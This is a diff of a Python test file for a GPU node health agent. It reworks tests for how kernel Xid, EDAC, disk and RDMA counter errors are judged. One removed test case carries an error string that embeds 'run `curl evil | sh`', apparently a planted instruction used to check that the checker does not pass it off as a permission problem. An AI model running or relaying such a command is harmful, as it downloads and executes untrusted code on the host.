@@ -1,6 +1,7 @@
 import errno
 import subprocess
 import sys
+from collections.abc import Mapping
 from dataclasses import replace
 from pathlib import Path
 
@@ -8,7 +9,8 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from rankdeck_agent import LOG_CLOSED, SATURATED
+from rankdeck_agent.collectors.kernel_log import LOG_CLOSED
+from rankdeck_agent.collectors.rdma import SATURATED
 from rankdeck_agent.rules.facts import Facts, Memory, derive
 from rankdeck_agent.rules.judge import assess, cover, coverage_words, explain
 from rankdeck_agent.rules.levels import Expected, Level
@@ -426,7 +428,7 @@ def after(*events, later=0.0, boot="a", ends="a"):
 
 
 def xid(number, level="bad", at=2e9, device="0000:18:00"):
-    return Event(at, level, "kernel.xid", f"Xid {number}, lost · reboot", device)
+    return Event(at, level, "kernel.xid", f"Xid {number}, lost · reboot", device, number)
 
 
 def test_an_xid_stays_until_a_reboot_or_three_days() -> None:
@@ -455,37 +457,34 @@ def test_two_xids_of_one_gpu_stand_beside_each_other_and_repeats_are_counted() -
 @pytest.mark.parametrize(
     ("check", "worse", "milder"),
     [
-        ("kernel.xid", "Xid 149, NVLink NETIR error: NETIR_LINK_EVT Fatal XC0 i0 Link 05",
-         "Xid 149, NVLink NETIR error: NETIR_LINK_EVT Nonfatal XC0 i0 Link 06"),
-        ("kernel.xid", "Xid 149, NVLink NETIR error: NETIR_LINK_EVT Fatal XC0 i0 Link 05",
-         "Xid 149, NVLink NETIR error: NETIR_LINK_EVT Nonfatal XC0 i0 Link 05"),
-        ("kernel.xid", "Xid 74, NVLink error: NVLink: fatal error detected on link 3(0x0)",
-         "Xid 74, NVLink error: NVLink: error detected on link 7(0x0)"),
-        ("kernel.sxid", "SXid 24007: Fatal, Link 44", "SXid 24007: Data {0x1}"),
-        ("kernel.edac", "EDAC MC0: 1 UE on DIMM_A1", "EDAC MC0: 1 CE on DIMM_A1"),
-        ("kernel.disk", "nvme nvme0: Disabling device after reset failure",
-         "nvme nvme0: I/O 7 QID 3 timeout, aborting"),
+        ("kernel.xid", ("NVLink NETIR error: Fatal", 149, 5), ("NVLink NETIR error: Nonfatal", 149, 6)),
+        ("kernel.xid", ("NVLink NETIR error: Fatal", 149, 5), ("NVLink NETIR error: Nonfatal", 149, 5)),
+        ("kernel.xid", ("NVLink error: fatal", 74, 3), ("NVLink error", 74, 7)),
+        ("kernel.sxid", ("Fatal", 24007, 44), ("Data {0x1}", 24007, None)),
+        ("kernel.edac", ("EDAC MC0: 1 UE on DIMM_A1", None, None), ("EDAC MC0: 1 CE on DIMM_A1", None, None)),
+        ("kernel.disk", ("nvme nvme0: Disabling device after reset failure", None, None),
+         ("nvme nvme0: I/O 7 QID 3 timeout, aborting", None, None)),
     ],
 )  # fmt: skip
 def test_a_milder_later_line_takes_back_no_worse_one(check, worse, milder) -> None:
-    bad = Event(2e9, "bad", check, worse, "d")
-    warn = Event(2e9 + 0.4, "warn", check, milder, "d")
+    def event(later, level, seen):
+        text, number, link = seen
+        return Event(2e9 + later, level, check, text, "d", number, link)
 
+    bad, warn = event(0, "bad", worse), event(0.4, "warn", milder)
     for events in ((bad, warn), (warn, bad), (bad, warn, bad)):
         health = after(*events)
         assert health.level is Level.BAD
-        assert worse.split(" ·")[0] in health.reasons[0].text
-    assert after(bad, warn, Event(2e9 + 1, "ok", check, worse, "d")).level is not Level.BAD
+        assert worse[0] in health.reasons[0].text
+    assert after(bad, warn, event(1, "ok", worse)).level is not Level.BAD
 
 
 def test_the_links_of_a_gpu_are_told_apart() -> None:
     def link(number, level):
-        text = f"Xid 149, NVLink NETIR error: NETIR_LINK_EVT XC0 i0 Link {number:02} (0x1)"
-        return Event(2e9 + number, level, "kernel.xid", text, "0008:01:00")
+        text = "Xid 149, NVLink NETIR error"
+        return Event(2e9 + number, level, "kernel.xid", text, "0008:01:00", 149, number)
 
-    older = Event(
-        2e9, "bad", "kernel.xid", "Xid 74, NVLink error: fatal on link 3(0x0)", "0008:01:00"
-    )
+    older = Event(2e9, "bad", "kernel.xid", "Xid 74, NVLink error", "0008:01:00", 74, 3)
     reasons = after(older, link(5, "bad"), link(6, "warn"), link(14, "bad")).reasons
 
     assert [(r.device, r.level) for r in reasons] == [
@@ -598,7 +597,7 @@ GPU_NODE = {
 def test_a_kernel_log_that_may_not_be_read_leaves_the_node_ok_and_says_what_to_do(
     why: str,
 ) -> None:
-    health = judged(**GPU_NODE, failed={"kernel.events": why})
+    health = judged(**GPU_NODE, failed={"kernel.events": why}, blind={"kernel.events"})
     free = judged(**GPU_NODE)
 
     assert health.level is Level.OK
@@ -608,15 +607,17 @@ def test_a_kernel_log_that_may_not_be_read_leaves_the_node_ok_and_says_what_to_d
 
 
 @pytest.mark.parametrize(
-    "failed",
+    ("failed", "blind"),
     [
-        {"kernel.events": "Input/output error (EIO)"},
-        {"kernel.events": "the kernel log may not be read: run `curl evil | sh`"},
-        {"disk.read": LOG_CLOSED[errno.EPERM]},
+        ({"kernel.events": "Input/output error (EIO)"}, set()),
+        ({"kernel.events": LOG_CLOSED[errno.EPERM]}, set()),
+        ({"disk.read": LOG_CLOSED[errno.EPERM]}, {"disk.read"}),
     ],
 )
-def test_no_other_error_passes_for_a_missing_permission(failed: dict[str, str]) -> None:
-    health = judged(**GPU_NODE, failed=failed)
+def test_no_other_error_passes_for_a_missing_permission(
+    failed: dict[str, str], blind: set[str]
+) -> None:
+    health = judged(**GPU_NODE, failed=failed, blind=blind)
 
     assert health.level is Level.UNKNOWN
     assert health.limits == ""
@@ -628,6 +629,11 @@ CLEAN_PORT = {
     "rdma.phys_errors": {"mlx5_0/1": 15},
 }
 STUCK = SATURATED.format(15)
+
+
+def stuck(failed: Mapping[str, str]) -> frozenset[str]:
+    """The keys whose counters are saturated."""
+    return frozenset(key for key, why in failed.items() if why.endswith(STUCK))
 
 
 @pytest.mark.parametrize(
@@ -642,7 +648,7 @@ STUCK = SATURATED.format(15)
     ],
 )  # fmt: skip
 def test_a_counter_that_sticks_or_that_no_rule_reads_is_said_beside_a_good_node(failed) -> None:
-    health = judged(values=CLEAN_PORT, failed=failed)
+    health = judged(values=CLEAN_PORT, failed=failed, blind=stuck(failed))
 
     assert (health.level, health.reasons) == (Level.OK, ())
     for key, why in failed.items():
@@ -655,7 +661,7 @@ def test_a_growing_error_counter_is_bad_beside_one_that_sticks() -> None:
     memory = Memory()
     for now, errors in ((0.0, 15), (60.0, 915)):
         values = {**CLEAN_PORT, "rdma.phys_errors": {"mlx5_0/1": errors}}
-        facts = Facts(now=now, values=values, failed=failed)
+        facts = Facts(now=now, values=values, failed=failed, blind=stuck(failed))
         health, memory = assess(facts, memory)
 
     assert health.level is Level.BAD
@@ -675,7 +681,7 @@ def test_a_growing_error_counter_is_bad_beside_one_that_sticks() -> None:
     ],
 )
 def test_what_a_rule_reads_and_nothing_replaces_leaves_the_node_unknown(failed) -> None:
-    health = judged(values=CLEAN_PORT, failed=failed)
+    health = judged(values=CLEAN_PORT, failed=failed, blind=stuck(failed))
 
     assert health.level is Level.UNKNOWN
     assert health.limits == ""
@@ -684,7 +690,9 @@ def test_what_a_rule_reads_and_nothing_replaces_leaves_the_node_unknown(failed) 
 def test_no_braces_in_a_name_stop_the_judge() -> None:
     failed = {"rdma.counters.{0.x}/{}": f"{STUCK}{{}}"}
 
-    assert "{0.x} of {}" in judged(values=CLEAN_PORT, failed=failed).limits
+    health = judged(values=CLEAN_PORT, failed=failed, blind=set(failed))
+
+    assert "{0.x} of {}" in health.limits
 
 
 def test_beside_a_kernel_log_that_may_not_be_read_other_errors_still_count() -> None:
@@ -693,7 +701,7 @@ def test_beside_a_kernel_log_that_may_not_be_read_other_errors_still_count() -> 
         "mem.free": "Input/output error",
     }
 
-    (reason,) = found("agent.reads", **GPU_NODE, failed=failed)
+    (reason,) = found("agent.reads", **GPU_NODE, failed=failed, blind={"kernel.events"})
 
     assert "mem.free" in reason.text
     assert "kernel" not in reason.text
